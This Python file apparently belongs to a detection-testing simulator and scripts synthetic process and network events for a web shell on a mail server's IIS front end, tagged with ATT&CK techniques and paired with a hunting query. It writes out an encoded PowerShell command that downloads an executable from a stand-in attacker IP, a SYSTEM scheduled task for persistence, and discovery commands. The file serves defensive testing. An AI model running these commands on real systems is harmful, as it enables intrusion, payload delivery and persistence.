"""Web shell: a page is planted on the mail server's web front end."""

from vedette.simulate.story import Accept, Connect, End, Run, Script, Story, Write, encoded

_ATTACKER = "198.51.100.77"
_FOLDER = r"C:\inetpub\wwwroot\aspnet_client\system_web"
_FETCH = "(New-Object Net.WebClient).DownloadFile('http://198.51.100.77:8000/t.exe','C:\\PerfLogs\\t.exe')"
_TASK = (
    r'schtasks /create /tn "Halden\HealthCheck" /tr C:\PerfLogs\t.exe /sc minute /mo 15 /ru SYSTEM'
)


def _ask(number: int, technique: str, path: str, question: str) -> tuple[Run, Run, End, End]:
    """Returns the steps of one command through the web shell: w3wp, cmd, the tool."""
    shell, tool = f"shell{number}", f"tool{number}"
    line = f'"cmd.exe" /c cd /d "{_FOLDER}"&{question}&echo [S]&cd&echo [E]'
    return (
        Run(35, "mail", shell, "T1505.003", "w3wp", "cmd.exe", line),
        Run(0.2, "mail", tool, technique, shell, path, question),
        End(0.6, "mail", tool, ""),
        End(0.1, "mail", shell, ""),
    )


WEB_SHELL = Story(
    name="web shell",
    title="Web shell on the mail server: commands under the IIS worker process",
    hosts=(("mail", "mail_server"),),
    hour=12.7,
    query="parent_name:w3wp.exe process_name:cmd.exe",
    steps=(
        Accept(0, "mail", "w3wp", "T1190", _ATTACKER, 443),
        Write(2, "mail", "w3wp", "T1505.003", rf"{_FOLDER}\errorEE.aspx"),
        Accept(30, "mail", "w3wp", "T1505.003", _ATTACKER, 443),
        *_ask(1, "T1033", "whoami.exe", "whoami"),
        *_ask(2, "T1016", "ipconfig.exe", "ipconfig /all"),
        *_ask(3, "T1069.002", "net.exe", 'net group "Exchange Trusted Subsystem" /domain'),
        *_ask(4, "T1057", "tasklist.exe", "tasklist /v"),
        Run(60, "mail", "shell", "T1505.003", "w3wp", "cmd.exe", '"cmd.exe" /c powershell'),
        Run(
            0.3,
            "mail",
            "fetch",
            "T1059.001",
            "shell",
            "powershell.exe",
            f"powershell.exe -nop -enc {encoded(_FETCH)}",
        ),
        Script(0.5, "mail", "fetch", "T1105", _FETCH),
        Connect(1, "mail", "fetch", "T1105", _ATTACKER, 8000),
        Write(2, "mail", "fetch", "T1105", r"C:\PerfLogs\t.exe"),
        End(1, "mail", "fetch", ""),
        Run(20, "mail", "task", "T1053.005", "shell", "schtasks.exe", _TASK),
        Write(1, "mail", "svchost0", "T1053.005", r"C:\Windows\System32\Tasks\Halden\HealthCheck"),
        End(1, "mail", "task", ""),
        Run(
            600, "mail", "tool", "T1053.005", "svchost0", r"C:\PerfLogs\t.exe", r"C:\PerfLogs\t.exe"
        ),
        Connect(1, "mail", "tool", "T1571", _ATTACKER, 8443),
    ),
)
